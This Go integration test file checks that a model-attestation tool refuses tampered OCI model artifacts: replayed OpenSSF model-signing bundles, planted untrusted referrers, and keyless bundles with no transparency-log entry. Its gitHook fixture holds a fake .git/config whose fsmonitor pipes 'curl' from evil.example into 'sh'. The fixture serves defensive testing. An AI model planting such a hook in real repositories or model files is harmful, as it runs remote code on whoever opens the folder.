package integration

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/opencontainers/go-digest"
	ocispec "github.com/opencontainers/image-spec/specs-go/v1"

	"github.com/modelattest/modelattest/internal/regtest"
	"github.com/modelattest/modelattest/modelspec"
	"github.com/modelattest/modelattest/oras"
	"github.com/modelattest/modelattest/referrers"
)

// newOMSWorld is the tamper world with a policy whose rules lean on
// OpenSSF model signing: model signing alone, by a key, a company PKI or a
// keyless identity, and one rule that requires no model signing at all.
func newOMSWorld(t *testing.T, tagSchema bool) *world {
	t.Helper()
	w := newWorld(t, tagSchema)
	w.policy = filepath.Join(w.dir, "oms-policy.yaml")
	err := os.WriteFile(w.policy, []byte(fmt.Sprintf(`version: 1
trust:
  release: {key: release.pub}
  corp:
    x509: {roots: corp-root.pem, subject: "CN=ml-release,O=Acme"}
  ci:
    keyless: {issuer: %q, subject: %q, trustedRoot: trusted_root.json}
models:
  - match: ["%[3]s/oms/**"]
    attestations:
      - predicateType: model-signing
        signers: [release]
  - match: ["%[3]s/omspki/**"]
    attestations: [{predicateType: model-signing, signers: [corp]}]
  - match: ["%[3]s/omskeyless/**"]
    attestations: [{predicateType: model-signing, signers: [ci]}]
  - match: ["%[3]s/omsfull/**"]
    signatures: {signers: [release]}
    attestations: [{predicateType: model-signing, signers: [release]}]
  - match: ["%[3]s/plain/**"]
    signatures: {signers: [release]}
  - match: ["**"]
    reject: true
`, regtest.TestIssuer, regtest.TestIdentity, w.host)), 0o644)
	if err != nil {
		t.Fatal(err)
	}
	return w
}

// omsAttest signs the model-signing statement of desc (made from its
// manifest, as `attest --type model-signing` does) with s and returns the
// bundle as stored.
func (w *world) omsAttest(tgt *oras.Target, desc ocispec.Descriptor, s *referrers.Signer) []byte {
	w.t.Helper()
	d, err := referrers.AttestModelSigning(w.ctx, tgt, desc, s, "tiny", referrers.AttachOptions{})
	if err != nil {
		w.t.Fatal(err)
	}
	r, err := referrers.FetchReferrer(w.ctx, tgt, d, desc.Digest)
	if err != nil {
		w.t.Fatal(err)
	}
	return r.Bundle
}

// omsWithExtraLayers pushes, as tag of tgt's repository, a model made of
// base's layers plus one raw layer per extra file: what an attacker who can
// push to the repository builds around a signed model.
func (w *world) omsWithExtraLayers(tgt *oras.Target, base ocispec.Descriptor, tag string, extra map[string][]byte) ocispec.Descriptor {
	w.t.Helper()
	m, _, err := oras.FetchManifest(w.ctx, tgt, base)
	if err != nil {
		w.t.Fatal(err)
	}
	layers := slices.Clone(m.Layers)
	for p, b := range extra {
		d := digest.FromBytes(b)
		f := modelspec.File{Path: p, Kind: modelspec.KindCode, Size: int64(len(b)), Mode: 0o644}
		l, err := f.Layer(d, time.Time{})
		if err != nil {
			w.t.Fatal(err)
		}
		if err := oras.PushBytes(w.ctx, tgt, ocispec.Descriptor{MediaType: l.MediaType, Digest: d, Size: l.Size}, b); err != nil {
			w.t.Fatal(err)
		}
		layers = append(layers, l)
	}
	sort.Slice(layers, func(i, j int) bool {
		return layers[i].Annotations[modelspec.AnnotationFilepath] < layers[j].Annotations[modelspec.AnnotationFilepath]
	})
	art, err := modelspec.NewArtifact(modelspec.Metadata{Name: "tiny"}, time.Time{}, layers, nil)
	if err != nil {
		w.t.Fatal(err)
	}
	if err := oras.PushArtifact(w.ctx, tgt, tag, art); err != nil {
		w.t.Fatal(err)
	}
	return art.ManifestDesc
}

// gitHook is what the attacker smuggles in: a git config whose fsmonitor
// runs a command on the next `git status` in the pulled folder.
var gitHook = map[string][]byte{
	".git/config":    []byte("[core]\n\tfsmonitor = \"curl -s https://evil.example/x | sh; false\"\n"),
	".gitattributes": []byte("*.safetensors filter=evil\n"),
	"model.sig":      []byte(`{"mediaType":"application/vnd.dev.sigstore.bundle.v0.3+json"}`),
}

// pullOMS runs a verified pull with --model-signature (and extra flags)
// into a new folder and returns the folder, the output and the exit code.
func (w *world) pullOMS(t *testing.T, ref string, extra ...string) (string, string, int) {
	t.Helper()
	dst := filepath.Join(t.TempDir(), "pulled")
	args := append([]string{"pull", "--plain-http", "--no-progress", "--model-signature", "-o", dst}, extra...)
	if !slices.Contains(extra, "--insecure-skip-verify") {
		args = append(args, "--policy", w.policy)
	}
	out, code := maCode(t, append(args, ref)...)
	return dst, out, code
}

// TestTamperOMS runs the model-signing cases on the embedded registry
// (Referrers API).
func TestTamperOMS(t *testing.T) { tamperOMS(t, newOMSWorld(t, false)) }

// TestTamperOMSTagSchema runs them on the CNCF distribution registry, where
// referrers live in sha256-<hex> tag indexes.
func TestTamperOMSTagSchema(t *testing.T) { tamperOMS(t, newOMSWorld(t, true)) }

func tamperOMS(t *testing.T, w *world) {
	t.Run("control: model-signing-only model passes and says what it does not cover", func(t *testing.T) {
		tgt, desc, ref := w.model("oms/control")
		w.omsAttest(tgt, desc, w.release)
		w.passes(t, ref)
		out := ma(t, "verify", "--plain-http", "--policy", w.policy, ref)
		if !strings.Contains(out, "Not covered:") || !strings.Contains(out, "config") || !strings.Contains(out, "annotations") {
			t.Fatalf("the text report does not say what model signing leaves unsigned:\n%s", out)
		}
		var rep struct {
			Passed     bool     `json:"passed"`
			NotCovered []string `json:"notCovered"`
		}
		js := ma(t, "verify", "--plain-http", "--policy", w.policy, "--format", "json", ref)
		if err := json.Unmarshal([]byte(js), &rep); err != nil {
			t.Fatalf("%v\n%s", err, js)
		}
		joined := strings.Join(rep.NotCovered, "\n")
		if !rep.Passed || !strings.Contains(joined, "config") || !strings.Contains(joined, "annotations") {
			t.Fatalf("notCovered = %q (passed %v)", rep.NotCovered, rep.Passed)
		}
	})
	t.Run("control: a signature over the manifest covers config and annotations", func(t *testing.T) {
		tgt, desc, ref := w.model("omsfull/control")
		w.sign(tgt, desc, w.release)
		w.omsAttest(tgt, desc, w.release)
		var rep struct {
			Passed     bool     `json:"passed"`
			NotCovered []string `json:"notCovered"`
		}
		js := ma(t, "verify", "--plain-http", "--policy", w.policy, "--format", "json", ref)
		if err := json.Unmarshal([]byte(js), &rep); err != nil {
			t.Fatalf("%v\n%s", err, js)
		}
		if !rep.Passed || len(rep.NotCovered) != 0 {
			t.Fatalf("notCovered = %q (passed %v)", rep.NotCovered, rep.Passed)
		}
	})
	// A's model-signing bundle re-attached (same bytes, new subject) to B:
	// A's layers plus files under the paths the statement's ignore_paths
	// exempt on disk. Each must be refused, and nothing written.
	for _, name := range []string{".git/config", ".gitattributes", "model.sig", "all three"} {
		t.Run("replayed bundle on a manifest with an extra "+name+" layer", func(t *testing.T) {
			repo := "oms/replay-" + strings.NewReplacer("/", "-", ".", "", " ", "-").Replace(name)
			tgt, descA, _ := w.model(repo)
			bundleA := w.omsAttest(tgt, descA, w.release)
			extra := gitHook
			want := name
			if name != "all three" {
				extra = map[string][]byte{name: gitHook[name]}
			} else {
				want = ".git/config" // the first uncovered layer in path order
			}
			descB := w.omsWithExtraLayers(tgt, descA, "b", extra)
			w.attach(tgt, descB, bundleA, referrers.PredicateModelSigning)
			w.refused(t, w.host+"/"+repo+":b", fmt.Sprintf("layer %q is not covered by the model-signing statement", want))
		})
	}
	t.Run("statement that leaves out a .gitattributes layer", func(t *testing.T) {
		// What OMSStatement made before: every layer but .git* and model.sig.
		tgt, base, _ := w.model("oms/oldstatement")
		desc := w.omsWithExtraLayers(tgt, base, "b", map[string][]byte{".gitattributes": gitHook[".gitattributes"]})
		m, _, err := oras.FetchManifest(w.ctx, tgt, desc)
		if err != nil {
			t.Fatal(err)
		}
		partial := *m
		partial.Layers = slices.DeleteFunc(slices.Clone(m.Layers), func(l ocispec.Descriptor) bool {
			return l.Annotations[modelspec.AnnotationFilepath] == ".gitattributes"
		})
		st, _, err := referrers.OMSStatement(partial, "tiny")
		if err != nil {
			t.Fatal(err)
		}
		b, err := w.release.SignStatement(w.ctx, st)
		if err != nil {
			t.Fatal(err)
		}
		w.attach(tgt, desc, b, referrers.PredicateModelSigning)
		w.refused(t, w.host+"/oms/oldstatement:b", "re-attest")
	})
	t.Run("control: a statement made now covers a .gitattributes layer", func(t *testing.T) {
		tgt, base, _ := w.model("oms/newstatement")
		desc := w.omsWithExtraLayers(tgt, base, "b", map[string][]byte{".gitattributes": gitHook[".gitattributes"]})
		bundle := w.omsAttest(tgt, desc, w.release)
		if !bytes.Contains(omsPayload(t, bundle), []byte(`"name":".gitattributes"`)) {
			t.Fatalf("the statement leaves out the .gitattributes layer:\n%s", omsPayload(t, bundle))
		}
		w.passes(t, w.host+"/oms/newstatement:b")
	})
	t.Run("planted model-signing referrer listed first is not written as model.sig", func(t *testing.T) {
		tgt, desc, ref := w.model("oms/planted")
		good := w.omsAttest(tgt, desc, w.release)
		st, _, err := referrers.OMSStatement(mustManifest(t, w, tgt, desc), "tiny")
		if err != nil {
			t.Fatal(err)
		}
		garbage, err := w.stray.SignStatement(w.ctx, st) // well formed, untrusted
		if err != nil {
			t.Fatal(err)
		}
		planted := w.attach(tgt, desc, garbage, referrers.PredicateModelSigning)
		w.rewriteReferrers(desc.Digest, func(idx *ocispec.Index) {
			idx.Manifests = slices.DeleteFunc(idx.Manifests, func(d ocispec.Descriptor) bool { return d.Digest == planted.Digest })
			idx.Manifests = append([]ocispec.Descriptor{planted}, idx.Manifests...)
		})
		defer w.proxy.SetTamper(nil)
		dst, out, code := w.pullOMS(t, ref)
		if code != 0 {
			t.Fatalf("pull --model-signature: exit %d\n%s", code, out)
		}
		got, err := os.ReadFile(filepath.Join(dst, "model.sig"))
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(got, good) {
			if bytes.Equal(got, garbage) {
				t.Fatal("model.sig is the planted, untrusted bundle listed first")
			}
			t.Fatalf("model.sig is not the bundle that verified:\n%s", got)
		}
	})
	t.Run("pull --model-signature with --include is refused", func(t *testing.T) {
		tgt, desc, ref := w.model("oms/include")
		w.omsAttest(tgt, desc, w.release)
		dst, out, code := w.pullOMS(t, ref, "--include", "kind:weight")
		if code != 2 || !strings.Contains(out, "--include") {
			t.Fatalf("exit %d (want 2)\n%s", code, out)
		}
		if e := regtest.Entries(t, filepath.Dir(dst)); len(e) != 0 {
			t.Fatalf("a refused pull wrote %v", e)
		}
	})
	t.Run("pull --model-signature without verification is refused", func(t *testing.T) {
		tgt, desc, ref := w.model("oms/unverified")
		w.omsAttest(tgt, desc, w.release)
		dst, out, code := w.pullOMS(t, ref, "--insecure-skip-verify")
		if code != 2 || !strings.Contains(out, "--model-signature") {
			t.Fatalf("exit %d (want 2)\n%s", code, out)
		}
		if e := regtest.Entries(t, filepath.Dir(dst)); len(e) != 0 {
			t.Fatalf("a refused pull wrote %v", e)
		}
	})
	t.Run("pull --model-signature under a rule that requires no model signing is refused", func(t *testing.T) {
		tgt, desc, ref := w.model("plain/oms")
		w.sign(tgt, desc, w.release)
		w.omsAttest(tgt, desc, w.stray) // nothing the policy checks
		dst, out, code := w.pullOMS(t, ref)
		if code != 1 || !strings.Contains(out, "requires no model-signing") {
			t.Fatalf("exit %d (want 1)\n%s", code, out)
		}
		if e := regtest.Entries(t, filepath.Dir(dst)); len(e) != 0 {
			t.Fatalf("a refused pull wrote %v", e)
		}
	})
	t.Run("keyless model-signing bundle without a transparency-log entry", func(t *testing.T) {
		tgt, desc, ref := w.model("omskeyless/nolog")
		s, err := referrers.NewKeylessSigner(w.ctx, referrers.KeylessOptions{FulcioURL: w.sig.FulcioURL, RekorURL: w.sig.RekorURL,
			IDToken: w.sig.Token(t, regtest.TestIdentity)})
		if err != nil {
			t.Fatal(err)
		}
		st, _, err := referrers.OMSStatement(mustManifest(t, w, tgt, desc), "tiny")
		if err != nil {
			t.Fatal(err)
		}
		b, err := s.SignStatement(w.ctx, st)
		if err != nil {
			t.Fatal(err)
		}
		var bm map[string]any
		if err := json.Unmarshal(b, &bm); err != nil {
			t.Fatal(err)
		}
		bm["verificationMaterial"].(map[string]any)["tlogEntries"] = []any{}
		stripped, _ := json.Marshal(bm)
		w.attach(tgt, desc, stripped, referrers.PredicateModelSigning)
		w.refused(t, ref, "attestation "+referrers.PredicateModelSigning+": 0 of 1")

		// The same signer with its log entry passes.
		tgt2, desc2, ref2 := w.model("omskeyless/logged")
		w.omsAttest(tgt2, desc2, s)
		w.passes(t, ref2)
	})
	t.Run("control: company-PKI model-signing bundle (no log entry) meets an x509 anchor", func(t *testing.T) {
		tgt, desc, ref := w.model("omspki/good")
		w.omsAttest(tgt, desc, w.pki.signer(t, time.Now().Add(-time.Hour), time.Now().Add(time.Hour)))
		w.passes(t, ref)
	})
}

func mustManifest(t *testing.T, w *world, tgt *oras.Target, desc ocispec.Descriptor) ocispec.Manifest {
	t.Helper()
	m, _, err := oras.FetchManifest(w.ctx, tgt, desc)
	if err != nil {
		t.Fatal(err)
	}
	return *m
}

// omsPayload is the in-toto statement inside a bundle, compacted.
func omsPayload(t *testing.T, bundle []byte) []byte {
	t.Helper()
	var b struct {
		DSSE struct {
			Payload []byte `json:"payload"`
		} `json:"dsseEnvelope"`
	}
	if err := json.Unmarshal(bundle, &b); err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	if err := json.Compact(&out, b.DSSE.Payload); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}
